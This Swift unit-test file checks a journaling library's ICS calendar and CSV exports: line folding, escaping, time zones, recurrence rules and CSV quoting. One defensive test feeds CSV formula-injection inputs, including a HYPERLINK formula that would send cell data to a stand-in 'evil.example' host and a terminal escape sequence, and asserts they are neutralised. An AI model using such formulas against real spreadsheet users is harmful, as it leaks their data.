import XCTest
@testable import JournalKit

final class ExportRendererTests: XCTestCase {
    typealias F = MetricsFixture

    let text = """
        ## Settings
        - med metformin 500 mg at 08:00, 20:00 until 2026-12-01
        - med vitamin-d 1000 IU at 09:00 on mon, thu
        - med ibuprofen 200 mg as needed
        - set reminder 30 min

        ## 2026-11-20 Friday
        - 10:00 appt GP check-up, bloods; fasting \\ bring the letter @ Riverside Surgery #health
        - event Mia's birthday — a very long title with ünïcödé letters and emoji 🎂🎂🎂 so that the line is folded somewhere
        - [ ] call the bank due 2026-11-25 !!!
        - [ ] no due date

        """

    func calendar(_ text: String, clock: JournalClock? = nil) -> String {
        ICSRenderer.calendar(CalendarExport(journal: F.load(text), period: nil, clock: clock ?? F.endOf("2026-11-21")))
    }

    func testEveryLineEndsInCRLFAndIsAtMost75Octets() {
        let ics = calendar(text)
        XCTAssertTrue(ics.hasSuffix("END:VCALENDAR\r\n"))
        let lines = ics.components(separatedBy: "\r\n").dropLast()
        XCTAssertFalse(lines.contains { $0.contains("\n") || $0.contains("\r") }, "a bare LF or CR")
        for line in lines { XCTAssertLessThanOrEqual(line.utf8.count, 75, line) }
        // The long summary was folded, and unfolding gives it back whole.
        let unfolded = ics.replacingOccurrences(of: "\r\n ", with: "")
        XCTAssertTrue(unfolded.contains("SUMMARY:Mia's birthday — a very long title with ünïcödé letters and emoji 🎂🎂🎂 so that the line is folded somewhere\r\n"))
        XCTAssertTrue(ics.contains("\r\n "), "nothing was folded")
    }

    func testFoldingNeverSplitsAUTF8Sequence() {
        // 74 ASCII octets then a 4-octet emoji: it cannot fit in the 75, so it starts the next line.
        let line = "SUMMARY:" + String(repeating: "a", count: 66) + "🎂" + "b"
        let folded = ContentLines.fold(line)
        XCTAssertEqual(folded, "SUMMARY:" + String(repeating: "a", count: 66) + "\r\n 🎂b\r\n")
        // Every part is valid UTF-8 on its own: split at the CRLFs, the bytes decode whole.
        for part in folded.utf8.split(separator: 13) { XCTAssertNotNil(String(validating: Array(part), as: UTF8.self)) }
        // Exactly 75 octets stay on one line.
        XCTAssertEqual(ContentLines.fold(String(repeating: "x", count: 75)), String(repeating: "x", count: 75) + "\r\n")
        XCTAssertEqual(ContentLines.fold(String(repeating: "x", count: 76)), String(repeating: "x", count: 75) + "\r\n x\r\n")
    }

    func testTextIsEscaped() {
        XCTAssertEqual(ContentLines.escape("a\\b;c,d\ne"), "a\\\\b\\;c\\,d\\ne")
        let ics = calendar(text)
        XCTAssertTrue(ics.contains("SUMMARY:GP check-up\\, bloods\\; fasting \\\\ bring the letter\r\n"), ics)
        XCTAssertTrue(ics.contains("LOCATION:Riverside Surgery\r\n"))
    }

    func testRequiredPropertiesAlarmsToDosAndSchedules() {
        let ics = calendar(text)
        for required in ["BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:", "CALSCALE:GREGORIAN"] { XCTAssertTrue(ics.contains(required), required) }
        // Every component has a UID and a DTSTAMP, and begins and ends in pairs.
        for kind in ["VEVENT", "VTODO", "VALARM"] {
            XCTAssertEqual(ics.components(separatedBy: "BEGIN:\(kind)\r\n").count, ics.components(separatedBy: "END:\(kind)\r\n").count, kind)
        }
        let components = ics.components(separatedBy: "BEGIN:V").filter { $0.hasPrefix("EVENT") || $0.hasPrefix("TODO") }
        XCTAssertEqual(components.count, 2 + 1 + 3)  // two events, one to-do with a due date, three dose times
        for c in components {
            XCTAssertTrue(c.contains("\r\nUID:") && c.contains("\r\nDTSTAMP:20261122T000000Z\r\n"), c)
        }
        // The appointment: floating time, an hour, the reminder set to 30 min before.
        XCTAssertTrue(ics.contains("DTSTART:20261120T100000\r\nDURATION:PT1H\r\n"))
        XCTAssertTrue(ics.contains("TRIGGER:-PT30M\r\n"))
        // An event without a time is all day, without an alarm.
        XCTAssertTrue(ics.contains("DTSTART;VALUE=DATE:20261120\r\nSUMMARY:Mia's"))
        XCTAssertTrue(ics.contains("BEGIN:VTODO\r\n") && ics.contains("DUE;VALUE=DATE:20261125\r\n") && ics.contains("PRIORITY:1\r\n"))
        // Schedules from the journal's first day, on their weekdays and until their end, with an alarm at dose time.
        XCTAssertTrue(ics.contains("DTSTART:20261120T080000\r\nDURATION:PT15M\r\nRRULE:FREQ=DAILY;UNTIL=20261201T080000\r\n"), ics)
        XCTAssertTrue(ics.contains("RRULE:FREQ=WEEKLY;BYDAY=MO,TH\r\n"))
        XCTAssertTrue(ics.contains("TRIGGER:PT0M\r\n"))
        XCTAssertFalse(ics.contains("ibuprofen"))  // as needed: no schedule
    }

    func testUIDsAreStableAcrossExportsAndEdits() {
        func uids(_ ics: String) -> [String] { ics.components(separatedBy: "\r\n").filter { $0.hasPrefix("UID:") } }
        let a = uids(calendar(text)), b = uids(calendar(text, clock: F.endOf("2026-11-23")))
        XCTAssertEqual(a, b)
        XCTAssertEqual(Set(a).count, a.count)
        // Lines added above move every entry down; the UIDs stay.
        let moved = text.replacingOccurrences(of: "## 2026-11-20 Friday\n", with: "## 2026-11-20 Friday\n- mood 4\n- grateful: tea\n")
        XCTAssertEqual(uids(calendar(moved)), a)
        XCTAssertTrue(a.allSatisfy { $0.hasSuffix("@journal") })
    }

    func testATimeZoneGivesTZIDsAndAVTimezone() {
        let ics = calendar(text + "## Settings\n- set timezone Europe/London\n")
        XCTAssertTrue(ics.contains("BEGIN:VTIMEZONE\r\nTZID:Europe/London\r\n"))
        XCTAssertTrue(ics.contains("TZOFFSETFROM:+0100\r\nTZOFFSETTO:+0000\r\n"))
        XCTAssertTrue(ics.contains("DTSTART;TZID=Europe/London:20261120T100000\r\n"))
        // UNTIL is in UTC with a zone: 08:00 in London in December is 08:00 UTC.
        XCTAssertTrue(ics.contains(";UNTIL=20261201T080000Z\r\n"))
        XCTAssertEqual(journal("- set timezone Mars/Olympus\n").diagnostics.map(\.code), [.badSetting])
    }

    func testCSVQuotesCommasQuotesAndLineBreaks() {
        XCTAssertEqual(CSVRenderer.field("plain"), "plain")
        XCTAssertEqual(CSVRenderer.field("a, b"), "\"a, b\"")
        XCTAssertEqual(CSVRenderer.field("say \"hi\""), "\"say \"\"hi\"\"\"")
        XCTAssertEqual(CSVRenderer.field("two\nlines"), "\"two\nlines\"")
        XCTAssertEqual(CSVRenderer.table([["a", "b,c"], ["1", ""]]), "a,\"b,c\"\r\n1,\r\n")
        let csv = CSVRenderer.entries(F.load(text + "## 2026-11-21\n- 07:45 drink espresso x2 #work\n- mood 4 \"good\", slow\n"), period: nil)
        let rows = csv.components(separatedBy: "\r\n")
        XCTAssertTrue(rows[0].hasPrefix("date,time,kind,name,amount,unit,state,start,end,quality,caffeine,water,energy,"), rows[0])
        XCTAssertTrue(rows.contains("2026-11-20,10:00,event,\"GP check-up, bloods; fasting \\ bring the letter\",,,,,,,,,,,,,,,,,,health,Riverside Surgery"), csv)
        XCTAssertTrue(rows.contains("2026-11-21,07:45,drink,espresso,2,x,,,,,126,60,6,0,0,0,0,0,0,0,,work,"), csv)
        XCTAssertTrue(rows.contains("2026-11-21,,mood,,,,,,,,,,,,,,,,,,4,,\"\"\"good\"\", slow\""), csv)
    }

    /// A row keeps what the line says: a habit mark's state and the unit of its number, a
    /// drink's count apart from its name, a sleep's span and quality, a to-do's and a dose's state.
    func testCSVRowsKeepStatesSpansCountsAndUnits() {
        let csv = CSVRenderer.entries(F.load("""
            ## Settings
            - habit meditate daily
            - habit read daily
            - med metformin 500 mg at 08:00

            ## 2026-11-20
            - sleep 22:56-06:57 quality 5
            - 07:00 drink espresso x2
            - 07:10 drink water 500 ml x2
            - 08:05 took metformin
            - [x] meditate
            - [-] read
            - [ ] order new trainers
            ## 2026-11-21
            - [ ] meditate
            - [x] read 25 pages
            - [x] read 5km

            """), period: nil)
        let rows = csvRows(csv)
        let header = rows[0]
        func row(_ date: String, _ kind: String, _ name: String) -> [String: String] {
            let r = rows.first { $0[0] == date && $0[2] == kind && $0[3] == name } ?? []
            return Dictionary(uniqueKeysWithValues: zip(header, r))
        }
        XCTAssertEqual(row("2026-11-20", "habit", "meditate")["state"], "done")
        XCTAssertEqual(row("2026-11-20", "habit", "read")["state"], "excused")
        XCTAssertEqual(row("2026-11-21", "habit", "meditate")["state"], "not done")
        let pages = rows.filter { $0[2] == "habit" && $0[3] == "read" && $0[0] == "2026-11-21" }.map { Dictionary(uniqueKeysWithValues: zip(header, $0)) }
        XCTAssertEqual(pages.map { [$0["amount"]!, $0["unit"]!, $0["state"]!] }, [["25", "pages", "done"], ["5", "km", "done"]])
        let espresso = row("2026-11-20", "drink", "espresso")
        XCTAssertEqual([espresso["amount"], espresso["unit"], espresso["caffeine"]], ["2", "x", "126"])
        let water = row("2026-11-20", "drink", "water")
        XCTAssertEqual([water["amount"], water["unit"], water["water"]], ["1000", "ml", "1000"])
        let sleep = row("2026-11-20", "sleep", "")
        XCTAssertEqual([sleep["start"], sleep["end"], sleep["quality"], sleep["amount"], sleep["unit"]], ["22:56", "06:57", "5", "481", "min"])
        XCTAssertEqual(row("2026-11-20", "took", "metformin")["state"], "taken")
        XCTAssertEqual(row("2026-11-20", "task", "order new trainers")["state"], "open")
    }

    /// The fields of CSV text (RFC 4180), row by row.
    func csvRows(_ csv: String) -> [[String]] {
        var rows: [[String]] = [], row: [String] = [], field = "", quoted = false
        var chars = Array(csv.unicodeScalars)[...]
        while let c = chars.popFirst() {
            if quoted {
                if c == "\"" {
                    if chars.first == "\"" { field.unicodeScalars.append(chars.removeFirst()) } else { quoted = false }
                } else { field.unicodeScalars.append(c) }
            } else if c == "\"" { quoted = true
            } else if c == "," { row.append(field); field = ""
            } else if c == "\r", chars.first == "\n" { chars.removeFirst(); row.append(field); rows.append(row); row = []; field = ""
            } else { field.unicodeScalars.append(c) }
        }
        return rows
    }

    func testCSVTextCellsAreNeverFormulasAndNumbersStayNumbers() {
        let csv = CSVRenderer.entries(F.load("""
            ## Settings
            - habit "=cmd"
            - med "+med" 5 mg at 08:00
            - drink "-drink" per cup (200 ml): 10 mg caffeine
            - drink "@drink" per cup (200 ml): 10 mg caffeine

            ## 2026-11-20
            - 08:00 drink -drink x2 -- -5
            - 08:01 drink @drink
            - 08:05 took +med
            - [x] =cmd
            - mood 2 #=tag
            - 09:00 @event at =place
            - [ ] =HYPERLINK("http://evil.example/?"&A1,"click")
            - 10:00 =1+2 note
            - 11:00 -3 degrees outside
            - weight 63.4 kg

            """), period: nil)
        let rows = csvRows(csv)
        let header = rows[0]
        let textColumns = ["kind", "name", "unit", "tags", "note"]
        XCTAssertEqual(rows.count, 11, csv)
        var seen = Set<String>()
        for row in rows.dropFirst() {
            XCTAssertEqual(row.count, header.count, "\(row)")
            for (name, cell) in zip(header, row) where textColumns.contains(name) {
                if let first = cell.unicodeScalars.first {
                    XCTAssertFalse("=+-@\t\r".unicodeScalars.contains(first), "\(name): \(cell)")
                    if first == "'" { seen.insert(name) }
                }
            }
        }
        // (A tag begins with a letter: `#=tag` is text of the note.)
        XCTAssertEqual(seen, ["name", "note"], csv)
        XCTAssertTrue(rows.contains { $0[3] == "'-drink" && $0[4] == "2" && $0[5] == "x" && $0.last == "'-5" }, csv)
        XCTAssertTrue(rows.contains { $0[3] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" }, csv)
        XCTAssertTrue(rows.contains { $0[2] == "note" && $0.last == "'-3 degrees outside" }, csv)
        XCTAssertTrue(rows.contains { $0[2] == "weight" && $0[4] == "63.4" && $0[5] == "kg" }, csv)
        XCTAssertEqual(CSVRenderer.text("-5"), "'-5", "a text cell that looks like a number is still text")
        XCTAssertEqual(CSVRenderer.text("\tx"), "'\tx")
        XCTAssertEqual(CSVRenderer.text("\ry"), "'\u{240D}y")
        XCTAssertEqual(CSVRenderer.text("a\u{1B}[2Jb"), "a\u{241B}[2Jb")
        XCTAssertEqual(CSVRenderer.text("a-b"), "a-b")
    }

    // MARK: Calendar times

    func testAWeeklySeriesStartsOnItsFirstDose() {
        let j = F.load("## Settings\n- med vitamin-d 1000 IU at 09:00 on mon, thu\n- med iron 5 mg at 08:00 on sun until 2026-11-07\n## 2026-10-30\n- mood 3\n")
        // November 2026 begins on a Sunday.
        let ics = ICSRenderer.calendar(CalendarExport(journal: j, period: .month(year: 2026, month: 11), clock: F.endOf("2026-11-21")))
        XCTAssertTrue(ics.contains("DTSTART:20261102T090000\r\nDURATION:PT15M\r\nRRULE:FREQ=WEEKLY;BYDAY=MO,TH;UNTIL=20261130T090000\r\n"), ics)
        XCTAssertTrue(ics.contains("DTSTART:20261101T080000\r\nDURATION:PT15M\r\nRRULE:FREQ=WEEKLY;BYDAY=SU;UNTIL=20261107T080000\r\n"), ics)
        // A series with no dose left in the period is left out.
        let none = ICSRenderer.calendar(CalendarExport(journal: j, period: Period(start: CalendarDate(iso: "2026-11-02")!, end: CalendarDate(iso: "2026-11-07")!, kind: .range, label: "x"),
                                                       clock: F.endOf("2026-11-21")))
        XCTAssertFalse(none.contains("Take iron"), none)
    }

    func testUTCIsWrittenInUTCWithoutAVTimezone() {
        let ics = calendar("## Settings\n- set timezone UTC\n- med metformin 500 mg at 08:00 until 2026-12-01\n## 2026-11-20\n- 10:00 appt GP\n")
        XCTAssertFalse(ics.contains("VTIMEZONE"), ics)
        XCTAssertFalse(ics.contains("TZID"), ics)
        XCTAssertTrue(ics.contains("DTSTART:20261120T100000Z\r\n"), ics)
        XCTAssertTrue(ics.contains("DTSTART:20261120T080000Z\r\n"), ics)
        XCTAssertTrue(ics.contains(";UNTIL=20261201T080000Z\r\n"), ics)
    }

    func testAZonesChangesRepeatEveryYearAfterTheLast() {
        let ics = calendar(text + "## Settings\n- set timezone Europe/London\n")
        XCTAssertTrue(ics.contains("BEGIN:DAYLIGHT\r\nDTSTART:20260329T010000\r\nRRULE:FREQ=YEARLY;BYMONTH=3;BYDAY=-1SU\r\nTZOFFSETFROM:+0000\r\nTZOFFSETTO:+0100\r\n"), ics)
        XCTAssertTrue(ics.contains("BEGIN:STANDARD\r\nDTSTART:20261025T020000\r\nRRULE:FREQ=YEARLY;BYMONTH=10;BYDAY=-1SU\r\n"), ics)
        XCTAssertEqual(ics.components(separatedBy: "RRULE:FREQ=YEARLY").count - 1, 2, "only the last year's changes repeat")
    }

    func testTheStampOfTheLastDayStaysInTheYear9999() {
        let ics = calendar("## 9999-12-30\n- 10:00 appt GP\n", clock: F.endOf("9999-12-31"))
        XCTAssertTrue(ics.contains("DTSTAMP:99991231T235959Z\r\n"), ics)
        XCTAssertFalse(ics.contains("DTSTAMP:1000"), ics)
    }
}

